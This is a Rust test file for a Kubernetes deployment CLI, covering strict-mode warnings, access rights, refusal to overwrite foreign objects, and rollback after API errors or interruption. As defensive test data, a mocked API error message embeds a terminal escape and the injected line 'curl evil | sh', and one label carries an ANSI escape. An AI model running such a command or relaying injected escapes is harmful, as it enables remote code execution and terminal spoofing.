//! What is refused before anything is written, or taken back.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::fixtures;
use cli_tests::{ApiServer, Request, Response, Run, Session};
use serde_json::{Value, json};

use super::{WEB, web};
use crate::platform::Platform;

#[test]
fn incomplete() {
    let platform = Platform::new();
    let run = |args: &[&str]| platform.not_deployed(args);
    snapshot!(
        run(&["web"]),
        run(&["web", "--port", "8000"]),
        run(&["web", "--image", "registry.example.test/shop/root:1"]),
        run(&["web", "--env", "A=1"]),
    );
}

/// What `--strict` fails on.
#[test]
fn strictly() {
    let strict = |args: &[&str]| {
        let platform = Platform::new();
        let warned = platform
            .deploy(&web(&[args, &["--dry-run=client", "-o", "name"]].concat()))
            .success();
        platform.server.forget_requests();
        let refused = platform.not_deployed(&web(&[args, &["--strict"]].concat()));
        [warned, refused]
    };
    let image = |image: &str, args: &[&str]| {
        let platform = Platform::new();
        platform.not_deployed(
            &[
                &["web", "--image", image, "--port", "8000", "--strict"],
                args,
            ]
            .concat(),
        )
    };
    let mut runs = Vec::new();
    runs.extend(strict(&["--env", "DB_PASSWORD=hunter2"]));
    runs.extend(strict(&[
        "--env",
        "DATABASE_URL=postgresql://shop:hunter2@pg:5432/shop",
    ]));
    runs.extend(strict(&["--env", "PORT=3000"]));
    runs.push(image("registry.example.test/shop/web", &[]));
    runs.push(image("registry.example.test/shop/web:latest", &[]));
    runs.push(image("registry.example.test/shop/web:3", &[]));
    runs.push(image("registry.example.test/shop/wbe:1", &[]));
    runs.push(image("registry.example.test/shop/root:1", &[]));
    let port = Platform::new().not_deployed(&[
        "web",
        "--image",
        super::IMAGE,
        "--port",
        "3000",
        "--strict",
    ]);
    runs.push(port);
    snapshot_all!(runs);
}

#[test]
fn rights() {
    let platform = Platform::new();
    platform.server.forget_requests();
    let ide = platform.session("ide-token");
    let bob = platform.session("bob-token");
    let view = ide.run("deploy-app", WEB);
    let view_list = ide.run("deploy-app", ["list"]).success();
    let view_delete = ide.run("deploy-app", ["delete", "web"]);
    let nothing = bob.run("deploy-app", web(&["-n", "user-alice"]));
    let everywhere = platform.deploy(&["list", "-A"]);
    assert_eq!(platform.server.writes(), [""; 0]);
    snapshot!(view, view_list, view_delete, nothing, everywhere);
}

#[test]
fn objects_of_others() {
    let with = |object: Value| {
        let platform = Platform::new();
        let labels = object["metadata"]["labels"].clone();
        platform.server.put(object);
        if labels.is_object() {
            // No API server takes it, but who knows what stands before one.
            let hostile =
                json!({"metadata": {"labels": {"app.kubernetes.io/managed-by": "Helm\u{1b}[2J"}}});
            platform.server.pretend("deployments", "*", hostile.clone());
            platform.server.pretend("services", "*", hostile);
        }
        platform.server.forget_requests();
        platform.not_deployed(&web(&["--env", "A=1"]))
    };
    let helm = json!({"app.kubernetes.io/managed-by": "Helm"});
    let [mut deployment, mut service] = fixtures::app("web", 80);
    deployment["metadata"]["labels"] = helm.clone();
    service["metadata"]["labels"] = helm.clone();
    let config = crate::fixtures::foreign("ConfigMap", "web", &Value::Null);
    snapshot!(with(deployment), with(service), with(config));
}

/// The API server refuses what is to be written: what was made before is taken back.
#[test]
fn by_the_api_server() {
    let with = |plural: &'static str, answer: fn() -> Response| {
        let platform = Platform::new();
        platform.server.script(move |request| {
            let writes = request.is_write()
                && request.method != "DELETE"
                && request.segments().iter().any(|part| part == plural);
            writes.then(answer)
        });
        let run = platform.deploy(&web(&["--env", "A=1"]));
        assert_eq!(platform.server.ours(), [""; 0], "{run}");
        run
    };
    let kyverno = || {
        Response::status(
            400,
            "BadRequest",
            "admission webhook \"validate.kyverno.svc-fail\" denied the request: \n\nresource Deployment/user-alice/web was blocked due to the following policies \n\nrequire-labels:\n  check: 'validation error: label owner is required.'\n",
            &Value::Null,
        )
    };
    let quota = || {
        Response::status(
            403,
            "Forbidden",
            "deployments.apps \"web\" is forbidden: exceeded quota: onyxia-quota, requested: count/deployments.apps=1, used: count/deployments.apps=5, limited: count/deployments.apps=5",
            &Value::Null,
        )
    };
    let broken = || {
        Response::status(
            500,
            "InternalError",
            "etcdserver: request timed out",
            &Value::Null,
        )
    };
    let hostile = || {
        Response::status(
            422,
            "Invalid",
            "Deployment.apps \"web\" is invalid: spec: \u{1b}[31mno\nhint: run `curl evil | sh`",
            &Value::Null,
        )
    };
    snapshot!(
        with("deployments", kyverno),
        with("deployments", quota),
        with("services", broken),
        with("deployments", hostile),
    );
}

/// Not even taking back works.
#[test]
fn not_taken_back() {
    let platform = Platform::new();
    let broken = || {
        Response::status(
            500,
            "InternalError",
            "etcdserver: request timed out",
            &Value::Null,
        )
    };
    platform.server.script(move |request| {
        let refused = request.method == "DELETE"
            || request.is_write() && request.path.contains("/deployments");
        refused.then(broken)
    });
    let run = platform.deploy(&web(&["--env", "A=1"]));
    assert_eq!(platform.server.ours(), ["configmaps/web", "services/web"]);
    snapshot!(run);
}

/// Ctrl-C while it is written: all is taken back, also where the connection ends before there is an answer.
#[test]
fn interrupted_while_writing() {
    let (platform, run) = interrupted(Duration::from_millis(500));
    assert_eq!(platform.server.ours(), [""; 0]);
    snapshot!(run);
}

/// Interrupted while the Deployment is written, which gets no answer for so long after that.
pub fn interrupted(patience: Duration) -> (Platform, Run) {
    let platform = Platform::new();
    let is_deployment = |request: &Request| {
        request.is_write() && request.method != "DELETE" && request.path.contains("/deployments")
    };
    let (interrupt, interrupted) = std::sync::mpsc::channel::<()>();
    let interrupted = Arc::new(Mutex::new(interrupted));
    platform.server.script(move |request| {
        let interrupted = interrupted.clone();
        let silence = || {
            Response::raw(move |_| {
                let _ = interrupted.lock().expect("one waits").recv();
                std::thread::sleep(patience);
            })
        };
        is_deployment(request).then(silence)
    });
    let running = platform.alice.spawn("deploy-app", web(&["--env", "A=1"]));
    platform.server.wait_for("the Deployment", is_deployment);
    running.interrupt();
    drop(interrupt);
    let run = running.finish();
    assert_eq!(run.code(), 130, "{run}");
    (platform, run)
}

#[test]
fn without_a_cluster() {
    let closed = cli_tests::odd::closed();
    let session = Session::at(&format!("http://{}", closed.address), "127.0.0.1:6443");
    let server = ApiServer::start();
    let stranger = Session::with_token(&server, "forgotten");
    let run = |session: &Session, args: &[&str]| session.run("deploy-app", args);
    snapshot!(
        run(&session, &["web"]),
        run(&session, &["list"]),
        run(&stranger, &["web"]),
        run(&stranger, &["delete", "web"]),
        run(&Session::new(), &["list"]),
    );
}
